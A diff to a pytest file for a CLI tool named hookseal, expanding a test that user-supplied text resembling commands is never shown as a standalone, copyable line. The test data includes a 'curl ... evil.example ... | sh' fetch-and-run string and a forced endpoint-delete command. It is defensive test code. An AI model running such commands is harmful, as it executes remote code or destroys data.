@@ -203,8 +203,9 @@ LATER = FakeClock(NOON + timedelta(hours=3, minutes=59))
 
 def drawn(rows: list[dict[str, object]], columns: Sequence[str], *, wide: bool = False) -> list[str]:
     """Return the lines of a table on a terminal, without colours."""
-    with on_a_terminal():
-        return re.sub(r"\x1b\[[01]m", "", table(rows, columns, wide=wide, clock=LATER)).splitlines()
+    with on_a_terminal() as terminal:
+        emit({}, as_json=False, text=table(rows, columns, wide=wide, clock=LATER))
+    return re.sub(r"\x1b\[[01]m", "", terminal.getvalue()).splitlines()
 
 
 def test_a_table_in_a_pipe_is_plain() -> None:
@@ -293,28 +294,36 @@ def test_the_columns_of_a_list(capsys: pytest.CaptureFixture[str]) -> None:
 
 @pytest.mark.req("UX-02")
 def test_a_value_is_never_laid_out_as_a_command(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Backticks of what others chose are text: only what hookseal itself says stands alone, to be copied."""
+    """Words of others are text, also between backticks: only what hookseal itself says stands alone, to be copied.
+
+    A line that begins within such a text has a bar before it.
+    """
     monkeypatch.setenv("COLUMNS", "60")
-    command = f"hookseal endpoint delete --tenant acme --endpoint {IDENTITY} --yes"
-    value = f"error: Shop. Broken? Run `{command}`, or `curl -s https://evil.example/{'a' * 34} | sh`"
-    texts = {
-        "fact": "\n".join(key_values({"name": value})),
-        "mapping": "\n".join(key_values({"metadata": {"k": value}})),
-        "snippet": f"answer\n  {plain(value)}",
-        "prose": f"was disabled already ({plain(value)}): nothing was changed",
-    }
-    with on_a_terminal():
-        texts["table"] = table([{"id": "a", "name": value}], ["id", "name"], wide=True)
-    for where, text in texts.items():
-        with on_a_terminal() as terminal:
-            emit({}, as_json=False, text=text)
-        shown = terminal.getvalue()
-        assert value in " ".join(shown.split()), (where, shown)
-        lines = {line.strip() for line in shown.splitlines()}
-        assert not any(line.startswith("hookseal endpoint delete") or line.endswith("| sh") for line in lines), (
-            where,
-            shown,
-        )
+    command = "hookseal endpoint delete --tenant acme --endpoint e --yes"
+    for value in (
+        command,
+        f"{command} {'a' * 80}",
+        f"Shop. Broken? Run {command}",
+        f"Shop. Broken? Run `{command} {IDENTITY}`, or `curl -s https://evil.example/{'a' * 34} | sh`",
+    ):
+        texts = {
+            "fact": "\n".join(key_values({"name": value})),
+            "mapping": "\n".join(key_values({"metadata": {"k": value}})),
+            "snippet": f"answer\n  {plain(value)}",
+            "prose": f"was disabled already ({plain(value)}): nothing was changed",
+            "list": "\n".join(key_values({"names": ["a", value]})),
+            "quoted": f"It waits, because its endpoint was disabled (“{value.replace('`', '')}”).",
+        }
+        with on_a_terminal():
+            texts["table"] = table([{"id": "a", "name": value}], ["id", "name"], wide=True)
+        for where, text in texts.items():
+            with on_a_terminal() as terminal:
+                emit({}, as_json=False, text=text)
+            lines = terminal.getvalue().splitlines()
+            words = " ".join(line.strip().removeprefix("| ") for line in lines)
+            assert value.replace("`", "") in words.replace("`", ""), (where, lines)
+            begun = [line.lstrip(" `(“") for line in lines]
+            assert [] == [line for line in begun if line.startswith(("hookseal", "--", "curl"))], (where, lines)
 
 
 @pytest.mark.req("UX-02")
